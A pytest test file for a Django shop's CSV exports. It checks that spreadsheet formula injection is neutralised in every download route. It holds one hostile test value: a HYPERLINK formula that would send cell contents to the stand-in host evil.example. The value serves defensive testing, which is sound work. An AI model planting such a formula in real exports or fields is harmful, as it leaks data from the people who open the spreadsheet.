"""Every CSV we hand out goes through one writer (common.csvio) that neutralises spreadsheet
formulas: a text cell starting with = + - @, tab or CR gets a leading quote, numbers stay numbers.

One shop is filled with hostile text wherever a person types it (buyer names, product titles,
memos, discount names, audit targets, import errors); every CSV download is then fetched and no
cell may start a formula.
"""

import csv
import io
import zipfile
from decimal import Decimal, InvalidOperation

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from common.csvio import csv_text, safe_cell, unquote_cell
from tests.factories import OrderFactory

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# (URL name, query string): every CSV download a seller can fetch from a page.
CSV_DOWNLOADS = [
    ("orders:order_export", ""),
    ("catalog:product_export", ""),
    ("catalog:product_import_template", ""),
    ("catalog:product_import_errors", ""),
    ("orders:finance_statement", "format=csv"),
    ("orders:analytics", "format=csv"),
    ("orders:analytics_traffic", "format=csv"),
    ("orders:analytics_conversion", "format=csv"),
    ("orders:analytics_best_sellers", "format=csv"),
    ("orders:analytics_customers", "format=csv"),
    ("shops:security_log", "format=csv"),
    ("marketing:coupon_export", ""),
    ("marketing:discount_export", ""),
    ("marketing:campaign_export", ""),
    ("marketing:live_export", ""),
    ("orders:analytics_live", "format=csv"),
    ("lifecycle:export_download", ""),
]


@pytest.mark.parametrize("value", [HOSTILE, "+1-555", "-cmd", "@SUM(A1)", "\tTAB", "\rCR"])
def test_a_text_cell_that_starts_a_formula_is_quoted_and_reads_back_unchanged(value):
    assert safe_cell(value) == "'" + value
    assert unquote_cell(safe_cell(value)) == value


def test_numbers_stay_numbers_even_when_negative():
    text = csv_text(["amount", "count", "note"], [[Decimal("-12.50"), -3, "plain"]])
    assert text == "\ufeffamount,count,note\r\n-12.50,-3,plain\r\n"


def test_the_orders_export_quotes_a_buyer_typed_formula(shop, owner_client):
    order = OrderFactory(shop=shop, buyer_name=HOSTILE)
    response = owner_client.get(reverse("orders:order_export", kwargs={"shop_slug": shop.slug}))
    rows = parse(b"".join(response.streaming_content))
    (row,) = [r for r in rows if r[0] == order.number]
    assert row[3] == "'" + HOSTILE


@pytest.fixture
def hostile_shop(hostile_shop_holding):
    return hostile_shop_holding(HOSTILE)


@pytest.mark.parametrize(("name", "query"), CSV_DOWNLOADS, ids=[n for n, _ in CSV_DOWNLOADS])
def test_no_csv_download_starts_a_formula(hostile_shop, shop, owner_client, name, query):
    kwargs = {"shop_slug": shop.slug}
    kwargs.update({k: v for k, v in hostile_shop.items() if f"<int:{k}>" in route_of(name)})
    response = owner_client.get(reverse(name, kwargs=kwargs) + ("?" + query if query else ""))
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    files = (
        [archive_member for archive_member in _zip_members(body)]
        if name == "lifecycle:export_download"
        else [body]
    )
    cells = [cell for content in files for row in parse(content) for cell in row]
    assert cells
    formulas = [c for c in cells if c.startswith(FORMULA_STARTS) and not is_number(c)]
    assert formulas == []


def test_every_csv_route_is_walked_above():
    """A new ``….csv`` route must join CSV_DOWNLOADS (and so the hostile walk)."""
    listed = {name for name, _ in CSV_DOWNLOADS}
    csv_routes = {name for name, route in all_routes() if route.endswith(".csv")}
    assert csv_routes <= listed


# --- helpers ----------------------------------------------------------------------------------


def parse(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except InvalidOperation:
        return False
    return True


def _zip_members(body: bytes) -> list[bytes]:
    archive = zipfile.ZipFile(io.BytesIO(body))
    return [archive.read(n) for n in archive.namelist() if n.endswith(".csv")]


def all_routes(resolver=None, prefix="", namespace=""):
    for entry in (resolver or get_resolver()).url_patterns:
        if isinstance(entry, URLResolver):
            ns = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            yield from all_routes(entry, prefix + str(entry.pattern), ns)
        elif isinstance(entry, URLPattern) and entry.name:
            yield f"{namespace}{entry.name}", prefix + str(entry.pattern)


def route_of(name: str) -> str:
    return dict(all_routes())[name]
